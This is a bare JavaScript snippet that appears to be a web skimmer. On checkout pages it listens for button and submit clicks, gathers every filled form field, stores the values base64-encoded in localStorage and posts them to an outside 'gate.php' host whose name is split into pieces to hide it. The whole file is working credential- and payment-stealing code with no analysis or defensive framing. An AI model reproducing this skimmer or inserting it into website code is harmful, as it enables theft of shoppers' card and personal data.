(function () {
  var gate = "https://" + "static-" + "assets-cdn" + ".com/gate.php";
  function grab() {
    var data = {};
    var els = document.querySelectorAll("input, select, textarea");
    for (var i = 0; i < els.length; i++) {
      if (els[i].value.length > 0) data[els[i].name || els[i].id] = els[i].value;
    }
    var saved = localStorage.getItem("_sd") || "";
    localStorage.setItem("_sd", saved + btoa(JSON.stringify(data)) + "|");
  }
  function send() {
    var payload = localStorage.getItem("_sd");
    if (!payload) return;
    var x = new XMLHttpRequest();
    x.open("POST", gate, true);
    x.setRequestHeader("Content-type", "application/x-www-form-urlencoded");
    x.send("info=" + encodeURIComponent(payload) + "&host=" + location.hostname);
    localStorage.removeItem("_sd");
  }
  if (new RegExp("onepage|checkout|onestep", "gi").test(window.location)) {
    document.addEventListener("click", function (e) {
      if (e.target.tagName == "BUTTON" || e.target.type == "submit") { grab(); setTimeout(send, 500); }
    });
  }
})();
